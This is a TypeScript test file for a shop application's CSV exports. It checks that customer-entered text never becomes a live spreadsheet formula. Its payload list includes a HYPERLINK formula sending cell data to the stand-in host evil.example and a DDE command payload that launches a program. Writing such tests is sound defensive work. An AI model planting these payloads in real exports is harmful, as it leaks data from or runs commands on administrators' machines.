import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Admin } from '../../src/shop/ground/actor.ts'
import { checkFile, importRows } from '../support/an-import.ts'
import { signUp } from '../support/signed-in-person.ts'
import { openScenario, type Scenario } from './scenario.ts'

/** Text of customers never becomes a formula in an administrator's spreadsheet. */
let scenario: Scenario
let lines: string[][]

const formulas = [
  '=HYPERLINK("https://evil.example?"&A1,"Invoice")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '",=1+1,"',
]

beforeAll(async () => {
  scenario = await openScenario()
  const { program, admin } = scenario
  const eve = await signUp(program.url, { name: formulas[0] as string, email: '+1-2@evil.example' })
  for (const formula of formulas) {
    const product = { name: `${formula}.`, details: formula, price: 1, available: 100, minimum_order: 1, image: '/images/a.webp' }
    const { insertedId } = (await program.call('POST', '/product', { token: admin.token, body: product })).body
    const form = { company: formula, street: formula, city: formula, country: formula, phone: '+1' }
    const checkout = { purchaseOrder: formula, note: formula, region: formula, postcode: formula.slice(0, 20) }
    const order = { ...form, ...checkout, lines: [{ productID: insertedId, orderUnit: 1 }] }
    const placed = await program.call('POST', '/order', { token: eve.token, body: order })
    expect(placed.status).toBe(200)
    // The event of a canceled order has all of its fields.
    expect((await program.call('DELETE', `/order/${placed.body.insertedId}`, { token: eve.token })).status).toBe(200)
    const review = { ratings: 100, comment: formula }
    expect((await program.call('POST', '/review', { token: eve.token, body: review })).status).toBe(200)
  }
  const body = { email: '-1@evil.example', subject: formulas[0], message: formulas[0] }
  expect((await program.call('POST', '/contact', { token: eve.token, body })).status).toBe(200)
  const { text } = await program.call('GET', '/event.csv', { token: admin.token })
  lines = readCsv(text)
})
afterAll(() => scenario?.close())

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`

/** Parses a CSV file (RFC 4180). */
function readCsv(text: string): string[][] {
  const cells = text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)
  const found: string[][] = [[]]
  for (const [, quoted, plain, end] of cells) {
    found.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '')
    if (end === '\r\n') found.push([])
  }
  return found.slice(0, -1)
}

test('the errors of an import come back as text, and read the same when they are imported again', async () => {
  const { program, admin } = scenario
  const shop = program.shop
  const rows = formulas.map((formula, at) => [`X-${at}`, formula, formula, 'no price', formula].map(quoted).join(','))
  const file = `sku,name,details,price,keywords\n${rows.join('\n')}\n`
  const { importId } = await checkFile(shop, admin.person as Admin, file)
  const { text } = await program.call('GET', `/product-import/${importId}/errors.csv`, { token: admin.token })
  const found = readCsv(text.replace('\ufeff', ''))
  expect(found).toHaveLength(formulas.length + 1)
  for (const cell of found.flat()) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/)
  const again = await checkFile(shop, admin.person as Admin, text)
  const cellsOf = async (id: string) =>
    (await importRows(shop, admin.person as Admin, id, 'error')).map(({ errors }) => errors.find(({ column }) => column === 'price')?.value)
  expect(await cellsOf(again.importId)).toEqual(await cellsOf(importId))
})

test('every line has nine cells, whatever they contain', () => {
  expect(lines.length).toBeGreaterThan(formulas.length * 3)
  for (const line of lines) expect(line).toHaveLength(9)
})

test('no cell starts like a formula', () => {
  for (const cell of lines.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  expect(lines.map(([, , actor]) => actor)).toContain(`'+1-2@evil.example`)
})

test('the original text is complete', () => {
  const reviews = lines.filter(([, , , , verb]) => verb === 'review.added').map((line) => JSON.parse(line[8] ?? '').comment)
  expect(reviews.toReversed()).toEqual(formulas.map((formula) => formula.trim()))
  const canceled = lines.filter(([, , , , verb]) => verb === 'order.cancelled').map((line) => JSON.parse(line[7] ?? ''))
  for (const field of ['purchaseOrder', 'note', 'region'])
    expect(canceled.map((order) => order[field]).toReversed()).toEqual(formulas.map((formula) => formula.trim()))
})
